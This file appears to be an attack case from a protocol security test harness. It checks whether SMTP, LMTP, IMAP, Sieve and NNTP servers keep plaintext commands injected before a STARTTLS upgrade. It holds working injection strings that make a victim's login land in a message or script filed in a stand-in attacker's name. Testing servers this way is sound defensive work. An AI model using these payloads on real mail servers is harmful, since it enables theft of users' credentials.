/** Injected words that make what the victim says next the content of the attacker's message. */
import type { Attack } from '../cell.ts';
import { assaults } from '../defender.ts';
import { EVIL, SECRET } from '../dialect.ts';

const mail = `AUTH PLAIN AG1hbGxvcnkAcGFzcw==\r\nMAIL FROM:<mallory@origin.test>\r\nRCPT TO:<${EVIL}@far.test>\r\nDATA\r\n`;

/** The beginning of something that is kept, in the attacker's name. */
const openings: Readonly<Partial<Record<string, string>>> = {
  smtp: `EHLO mallory.test\r\n${mail}`,
  lmtp: `LHLO mallory.test\r\n${mail}`,
  imap: `m1 LOGIN mallory pass\r\nm2 APPEND ${EVIL} {500+}\r\n`,
  sieve: `AUTHENTICATE "PLAIN" "AG1hbGxvcnkAcGFzcw=="\r\nPUTSCRIPT "${EVIL}" {500+}\r\n`,
  nntp: `AUTHINFO USER mallory\r\nAUTHINFO PASS pass\r\nPOST\r\nSubject: ${EVIL}\r\n\r\n`,
};

export const credentialTheft: Attack = {
  name: 'credential-theft',
  cells: assaults([
    {
      how: 'the beginning of a message in clear, into which the login falls',
      weak: ['keepsLeftover'],
      occasion: ({ protocol }) => openings[protocol] !== undefined,
      async attack({ come, dialect, backend, defender }) {
        const victim = await come();
        await victim.approach();
        victim.say(dialect.upgrade + (openings[dialect.protocol] ?? ''));
        await victim.answer('goAhead');
        if (!(await victim.secure())) return undefined;
        victim.say(`${dialect.askInside ?? ''}${dialect.loginInside}`);
        await victim.hear();
        const caught = backend.find(({ plain }) => {
          const at = plain.indexOf(EVIL);
          return at !== -1 && plain.includes(SECRET, at);
        });
        if (caught !== undefined) return `the login is part of the message: ${caught.plain}`;
        return defender.taken.length > 0 ? 'a message was taken' : 'the handshake went on over plaintext';
      },
    },
  ]),
  without: (role, protocol) => {
    if (role === 'client' || role === 'reverse') return 'it takes no commands';
    return openings[protocol] === undefined ? 'nothing is kept' : 'mail comes in by SMTP only';
  },
};
